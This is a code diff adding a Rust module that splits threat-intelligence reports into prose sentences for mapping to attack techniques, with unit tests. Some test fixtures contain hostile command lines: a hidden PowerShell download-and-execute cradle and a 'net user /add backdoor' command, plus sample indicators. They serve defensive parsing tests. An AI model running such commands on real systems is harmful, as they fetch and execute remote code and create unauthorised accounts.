@@ -1,0 +1,519 @@
+//! Whole reports for the mapper: a report (plain text, markdown, HTML, or text extracted from a
+//! PDF) turned into its prose sentences — markup removed, wrapped lines joined, lists, tables, code
+//! and indicator lines left out — so each sentence can be mapped on its own.
+
+/// Words a sentence needs to be mapped.
+pub const MIN_WORDS: usize = 4;
+/// Longest sentence kept whole, in words (longer runs are cut at this length).
+pub const MAX_WORDS: usize = 120;
+/// Sentences read from one document at most (a 5–20 page report has a few hundred).
+pub const MAX_SENTENCES: usize = 5_000;
+
+/// Techniques taken from each sentence at most.
+pub const PER_SENTENCE: usize = 3;
+
+/// A technique found in a document.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Found {
+    /// Index into the model's techniques.
+    pub technique: usize,
+    /// The best score of a sentence mapped to it.
+    pub score: f64,
+    /// Sentences that map to it at or above the threshold.
+    pub sentences: usize,
+    /// The sentence that scored best.
+    pub sentence: String,
+}
+
+/// Map a whole report: each prose sentence's top techniques at or above `threshold`, per technique
+/// the best score, the number of supporting sentences and the best sentence; strongest first.
+pub fn map_document(
+    m: &super::Mapper,
+    text: &str,
+    threshold: f64,
+    s: &mut super::Scratch,
+) -> Vec<Found> {
+    let mut found: Vec<Found> = Vec::new();
+    let mut at: std::collections::HashMap<usize, usize> = std::collections::HashMap::new();
+    for sentence in prose_sentences(text) {
+        for r in m.top_k(&sentence, PER_SENTENCE, s) {
+            if r.score < threshold || r.score <= 0.0 {
+                continue;
+            }
+            match at.get(&r.technique) {
+                Some(&i) => {
+                    let f = &mut found[i];
+                    f.sentences += 1;
+                    if r.score > f.score {
+                        f.score = r.score;
+                        f.sentence.clone_from(&sentence);
+                    }
+                }
+                None => {
+                    at.insert(r.technique, found.len());
+                    found.push(Found {
+                        technique: r.technique,
+                        score: r.score,
+                        sentences: 1,
+                        sentence: sentence.clone(),
+                    });
+                }
+            }
+        }
+    }
+    let techniques = &m.model.techniques;
+    found.sort_by(|a, b| {
+        b.score
+            .total_cmp(&a.score)
+            .then_with(|| techniques[a.technique].id.cmp(&techniques[b.technique].id))
+    });
+    found
+}
+
+/// Abbreviations whose period does not end a sentence (lower case, without the period).
+const ABBREVIATIONS: &[&str] = &[
+    "al", "approx", "cf", "co", "corp", "dept", "dr", "e.g", "eg", "esp", "etc", "fig", "figs", "i.e",
+    "ie", "inc", "jr", "ltd", "mr", "mrs", "ms", "no", "nos", "p", "pp", "prof", "sr", "st", "u.k",
+    "u.s", "v", "vol", "vs", "viz",
+];
+
+/// File extensions, so `cmd.exe` is not taken for a domain.
+const FILE_EXTENSIONS: &[&str] = &[
+    "bat", "bin", "cmd", "dat", "dll", "doc", "docm", "docx", "exe", "hta", "htm", "html", "ini",
+    "jar", "js", "lnk", "log", "msi", "pdf", "php", "ps1", "py", "rar", "rtf", "scr", "sh", "so",
+    "sys", "tmp", "txt", "vbs", "xls", "xlsm", "xlsx", "xml", "zip",
+];
+
+/// The prose sentences of `text`, in order.
+pub fn prose_sentences(text: &str) -> Vec<String> {
+    let plain = if looks_like_html(text) {
+        html_to_text(text)
+    } else {
+        text.to_string()
+    };
+    let mut out = Vec::new();
+    for block in blocks(&plain) {
+        for s in split_sentences(&block) {
+            if out.len() >= MAX_SENTENCES {
+                return out;
+            }
+            if is_prose(&s) {
+                out.push(s);
+            }
+        }
+    }
+    out
+}
+
+fn looks_like_html(text: &str) -> bool {
+    let head: String = text.chars().take(4096).collect::<String>().to_ascii_lowercase();
+    ["<html", "<body", "<p>", "<p ", "<div", "<br", "<!doctype", "<li>", "<span", "<h1", "<h2"]
+        .iter()
+        .any(|t| head.contains(t))
+}
+
+/// Text of an HTML page: scripts, styles and comments dropped, block elements as line breaks,
+/// list items and table cells marked so they are not joined into prose, entities decoded.
+fn html_to_text(html: &str) -> String {
+    let mut out = String::with_capacity(html.len());
+    let lower = html.to_ascii_lowercase();
+    let mut i = 0;
+    let bytes = html.as_bytes();
+    while i < bytes.len() {
+        if bytes[i] != b'<' {
+            let next = html[i..].find('<').map_or(html.len(), |n| i + n);
+            out.push_str(&decode_entities(&html[i..next]));
+            i = next;
+            continue;
+        }
+        if lower[i..].starts_with("<!--") {
+            i = lower[i..].find("-->").map_or(html.len(), |n| i + n + 3);
+            continue;
+        }
+        let end = html[i..].find('>').map_or(html.len(), |n| i + n + 1);
+        let tag = lower[i + 1..end.saturating_sub(1).max(i + 1)]
+            .trim_start_matches('/')
+            .split(|c: char| c.is_whitespace() || c == '/' || c == '>')
+            .next()
+            .unwrap_or("")
+            .to_string();
+        let closing = lower[i + 1..].starts_with('/');
+        i = end;
+        match tag.as_str() {
+            "script" | "style" | "noscript" | "template" if !closing => {
+                let close = format!("</{tag}");
+                i = lower[i..].find(&close).map_or(html.len(), |n| i + n);
+            }
+            "pre" if !closing => {
+                // Code blocks are not prose.
+                i = lower[i..].find("</pre").map_or(html.len(), |n| i + n);
+            }
+            "li" if !closing => out.push_str("\n- "),
+            "td" | "th" if !closing => out.push_str(" | "),
+            "tr" => out.push_str(" |\n"),
+            "p" | "div" | "br" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "ul" | "ol"
+            | "table" | "section" | "article" | "header" | "footer" | "blockquote" | "title"
+            | "li" => out.push_str("\n\n"),
+            _ => out.push(' '),
+        }
+    }
+    out
+}
+
+fn decode_entities(s: &str) -> String {
+    if !s.contains('&') {
+        return s.to_string();
+    }
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(p) = rest.find('&') {
+        out.push_str(&rest[..p]);
+        rest = &rest[p..];
+        let Some(semi) = rest
+            .char_indices()
+            .take(12)
+            .find(|(_, c)| *c == ';')
+            .map(|(n, _)| n)
+        else {
+            out.push('&');
+            rest = &rest[1..];
+            continue;
+        };
+        let name = &rest[1..semi];
+        let ch = match name {
+            "amp" => Some('&'),
+            "lt" => Some('<'),
+            "gt" => Some('>'),
+            "quot" => Some('"'),
+            "apos" => Some('\''),
+            "nbsp" => Some(' '),
+            "rsquo" | "lsquo" => Some('\''),
+            "rdquo" | "ldquo" => Some('"'),
+            "ndash" | "mdash" => Some('-'),
+            n if n.starts_with("#x") || n.starts_with("#X") => {
+                u32::from_str_radix(&n[2..], 16).ok().and_then(char::from_u32)
+            }
+            n if n.starts_with('#') => n[1..].parse().ok().and_then(char::from_u32),
+            _ => None,
+        };
+        match ch {
+            Some(c) => {
+                out.push(c);
+                rest = &rest[semi + 1..];
+            }
+            None => {
+                out.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// What a line of a document is.
+#[derive(Debug, PartialEq)]
+enum Line<'a> {
+    Blank,
+    /// Prose (a heading's marks removed); consecutive prose lines are one paragraph.
+    Prose(&'a str),
+    /// A list item: a unit of its own (lines after it that are not blank continue it).
+    Item(&'a str),
+    /// A heading: a unit of its own, never joined to what follows.
+    Heading(&'a str),
+    /// Code, table rows, indicator lines, fences: never prose.
+    Skip,
+}
+
+fn classify<'a>(line: &'a str, in_fence: &mut bool) -> Line<'a> {
+    let t = line.trim();
+    if t.starts_with("```") || t.starts_with("~~~") {
+        *in_fence = !*in_fence;
+        return Line::Skip;
+    }
+    if *in_fence {
+        return Line::Skip;
+    }
+    if t.is_empty() {
+        return Line::Blank;
+    }
+    // Indented code (markdown) and table rows.
+    if line.starts_with("    ") && !line.trim_start().starts_with(['-', '*', '+']) && looks_like_code(t)
+        || line.starts_with('\t') && looks_like_code(t)
+        || t.starts_with('|')
+        || t.matches('|').count() >= 2
+        || t.matches('\t').count() >= 2
+    {
+        return Line::Skip;
+    }
+    if is_indicator_line(t) {
+        return Line::Skip;
+    }
+    let heading = t.trim_start_matches('#').trim_start_matches('>').trim();
+    if t.starts_with('#') {
+        return Line::Heading(heading);
+    }
+    let bullet = heading
+        .strip_prefix("- ")
+        .or_else(|| heading.strip_prefix("* "))
+        .or_else(|| heading.strip_prefix("+ "))
+        .or_else(|| heading.strip_prefix("• "))
+        .or_else(|| {
+            let digits = heading.find(|c: char| !c.is_ascii_digit()).unwrap_or(0);
+            (digits > 0 && digits <= 3)
+                .then(|| &heading[digits..])
+                .and_then(|r| r.strip_prefix(". ").or_else(|| r.strip_prefix(") ")))
+        });
+    match bullet {
+        Some(item) => Line::Item(item.trim()),
+        None => Line::Prose(heading),
+    }
+}
+
+fn looks_like_code(t: &str) -> bool {
+    t.contains(['{', '}', ';', '=', '$', '\\']) || t.starts_with(['<', '/', '.'])
+}
+
+/// A line most of whose words are indicators (IPs, hashes, domains, URLs), e.g. an IOC list.
+fn is_indicator_line(t: &str) -> bool {
+    let words: Vec<&str> = t.split_whitespace().collect();
+    if words.is_empty() {
+        return false;
+    }
+    let iocs = words.iter().filter(|w| is_indicator(w)).count();
+    iocs > 0 && iocs * 2 >= words.len()
+}
+
+fn is_indicator(w: &str) -> bool {
+    let w = w.trim_matches(|c: char| matches!(c, ',' | ';' | '(' | ')' | '"' | '\'' | '`'));
+    let hex = w.len() >= 32 && w.chars().all(|c| c.is_ascii_hexdigit());
+    let url = w.contains("://") || w.starts_with("hxxp");
+    let dotted = w.replace("[.]", ".");
+    let ip = dotted.split('.').count() == 4
+        && dotted.split('.').all(|p| !p.is_empty() && p.len() <= 3 && p.chars().all(|c| c.is_ascii_digit()));
+    let domain = dotted.contains('.')
+        && !dotted.ends_with('.')
+        && dotted.rsplit('.').next().is_some_and(|tld| {
+            tld.len() >= 2
+                && tld.chars().all(|c| c.is_ascii_alphabetic())
+                && !FILE_EXTENSIONS.contains(&tld.to_ascii_lowercase().as_str())
+        })
+        && dotted.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
+    hex || url || ip || domain
+}
+
+/// Paragraphs and list items of plain or markdown text: wrapped lines joined (a word hyphenated at
+/// a line end is rejoined), markdown emphasis, code spans and link targets removed.
+fn blocks(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut para = String::new();
+    let mut in_fence = false;
+    let flush = |para: &mut String, out: &mut Vec<String>| {
+        if !para.trim().is_empty() {
+            out.push(strip_markdown(para.trim()));
+        }
+        para.clear();
+    };
+    for line in text.lines() {
+        match classify(line, &mut in_fence) {
+            Line::Blank | Line::Skip => flush(&mut para, &mut out),
+            Line::Item(item) => {
+                flush(&mut para, &mut out);
+                para.push_str(item);
+            }
+            Line::Heading(h) => {
+                flush(&mut para, &mut out);
+                para.push_str(h);
+                flush(&mut para, &mut out);
+            }
+            Line::Prose(p) => {
+                if para.ends_with('-') && p.starts_with(|c: char| c.is_lowercase()) {
+                    para.pop();
+                } else if !para.is_empty() {
+                    para.push(' ');
+                }
+                para.push_str(p);
+            }
+        }
+    }
+    flush(&mut para, &mut out);
+    out
+}
+
+/// Markdown marks removed: `[text](target)` → text, emphasis and code-span marks dropped.
+fn strip_markdown(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(open) = rest.find('[') {
+        out.push_str(&rest[..open]);
+        let after = &rest[open + 1..];
+        match after.find("](") {
+            Some(close) if !after[..close].contains('[') => {
+                out.push_str(&after[..close]);
+                let target = &after[close + 2..];
+                rest = target.find(')').map_or("", |e| &target[e + 1..]);
+            }
+            _ => {
+                out.push('[');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out.replace("**", "").replace("__", "").replace('`', "")
+}
+
+/// Split a paragraph at sentence ends: `.`, `!` or `?` (closing quotes and brackets kept) followed by
+/// white space and a capital, digit or opening mark — not after an abbreviation or an initial, and
+/// never inside a token (IP addresses, domains, file names and versions keep their dots).
+fn split_sentences(para: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let words: Vec<&str> = para.split_whitespace().collect();
+    let mut cur: Vec<&str> = Vec::new();
+    for (i, w) in words.iter().enumerate() {
+        cur.push(w);
+        let next = words.get(i + 1);
+        if cur.len() >= MAX_WORDS || next.is_some_and(|n| ends_sentence(w, n)) {
+            out.push(cur.join(" "));
+            cur.clear();
+        }
+    }
+    if !cur.is_empty() {
+        out.push(cur.join(" "));
+    }
+    out
+}
+
+fn ends_sentence(word: &str, next: &str) -> bool {
+    let core = word.trim_end_matches(['"', '\'', ')', ']', '”', '’']);
+    let Some(last) = core.chars().last() else {
+        return false;
+    };
+    if !matches!(last, '.' | '!' | '?') {
+        return false;
+    }
+    let starts_new = next
+        .trim_start_matches(['"', '\'', '(', '[', '“', '‘'])
+        .chars()
+        .next()
+        .is_some_and(|c| c.is_uppercase() || c.is_ascii_digit());
+    if !starts_new {
+        return false;
+    }
+    if last == '.' {
+        let stem = core.trim_end_matches('.').trim_start_matches(['(', '"', '\'']);
+        let lower = stem.to_lowercase();
+        // An initial ("J. Smith") or an abbreviation ("e.g. Emotet", "Fig. 3").
+        if stem.chars().count() == 1 && stem.chars().all(char::is_alphabetic) {
+            return false;
+        }
+        if ABBREVIATIONS.contains(&lower.as_str()) {
+            return false;
+        }
+    }
+    true
+}
+
+/// Whether a sentence reads as prose: enough words, most of them words rather than indicators,
+/// numbers or symbols.
+fn is_prose(s: &str) -> bool {
+    let words: Vec<&str> = s.split_whitespace().collect();
+    if words.len() < MIN_WORDS {
+        return false;
+    }
+    let alpha = words
+        .iter()
+        .filter(|w| {
+            let letters = w.chars().filter(|c| c.is_alphabetic()).count();
+            letters * 2 > w.chars().count() && !is_indicator(w)
+        })
+        .count();
+    alpha * 10 >= words.len() * 6 && alpha >= MIN_WORDS - 1
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn abbreviations_and_dotted_tokens_do_not_split() {
+        let s = prose_sentences(
+            "The actor, e.g. APT29, contacted 192.168.10.5 and update.evil-domain.com over HTTPS. \
+             It then ran cmd.exe via rundll32.exe (see Fig. 3 for details). Version 2.1.4 was used by Mr. Smith's team.",
+        );
+        assert_eq!(s.len(), 3, "{s:#?}");
+        assert!(s[0].ends_with("over HTTPS."));
+        assert!(s[1].contains("Fig. 3"));
+        assert!(s[2].starts_with("Version 2.1.4"));
+    }
+
+    #[test]
+    fn wrapped_pdf_lines_are_joined_and_hyphens_rejoined() {
+        let s = prose_sentences(
+            "The malware establishes persis-\ntence through a scheduled\ntask named Updater. It also\nlogs keystrokes.\n\nPage 4\n",
+        );
+        assert_eq!(
+            s,
+            vec![
+                "The malware establishes persistence through a scheduled task named Updater.",
+                "It also logs keystrokes."
+            ]
+        );
+    }
+
+    #[test]
+    fn lists_tables_code_and_iocs_are_not_prose() {
+        let text = "Indicators of compromise are listed below.\n\n\
+            - 45.77.12.9\n- bad-domain[.]example[.]com\n- d41d8cd98f00b204e9800998ecf8427e\n\
+            - The loader injects its payload into explorer.exe to evade defences.\n\n\
+            | Technique | ID |\n|---|---|\n| Phishing | T1566 |\n\n\
+            ```\npowershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')\n```\n\
+            1. The attackers dump credentials from LSASS memory.\n2. They move laterally over SMB.\n";
+        let s = prose_sentences(text);
+        assert_eq!(
+            s,
+            vec![
+                "Indicators of compromise are listed below.",
+                "The loader injects its payload into explorer.exe to evade defences.",
+                "The attackers dump credentials from LSASS memory.",
+                "They move laterally over SMB.",
+            ]
+        );
+    }
+
+    #[test]
+    fn html_markup_is_removed_and_scripts_dropped() {
+        let html = "<html><head><title>Report</title><script>var a = 'The attackers used PowerShell.';</script></head>\
+            <body><h1>Campaign</h1><p>The attackers sent <b>spearphishing</b> emails with malicious attachments. \
+            The payload &amp; its loader were signed.</p><ul><li>evil.example.com</li></ul>\
+            <pre>net user /add backdoor</pre><p>They used <a href=\"https://x\">WMI</a> for execution &#8212; remotely.</p></body></html>";
+        let s = prose_sentences(html);
+        assert_eq!(
+            s,
+            vec![
+                "The attackers sent spearphishing emails with malicious attachments.",
+                "The payload & its loader were signed.",
+                "They used WMI for execution \u{2014} remotely.",
+            ],
+        );
+    }
+
+    #[test]
+    fn markdown_links_and_emphasis_are_unwrapped() {
+        let s = prose_sentences(
+            "## Execution\nThe group relies on **[PowerShell](https://attack.mitre.org/techniques/T1059/001)** \
+             and `cmd.exe` to run commands.",
+        );
+        assert_eq!(s, vec!["The group relies on PowerShell and cmd.exe to run commands."]);
+    }
+
+    #[test]
+    fn hostile_input_is_bounded() {
+        let long = "word ".repeat(1_000_000);
+        let s = prose_sentences(&long);
+        assert!(s.iter().all(|x| x.split_whitespace().count() <= MAX_WORDS));
+        assert!(s.len() <= MAX_SENTENCES);
+        assert!(prose_sentences("<<<>>>&#xFFFFFFFF;&#99999999999;<script").is_empty());
+        assert!(prose_sentences("").is_empty());
+    }
+}
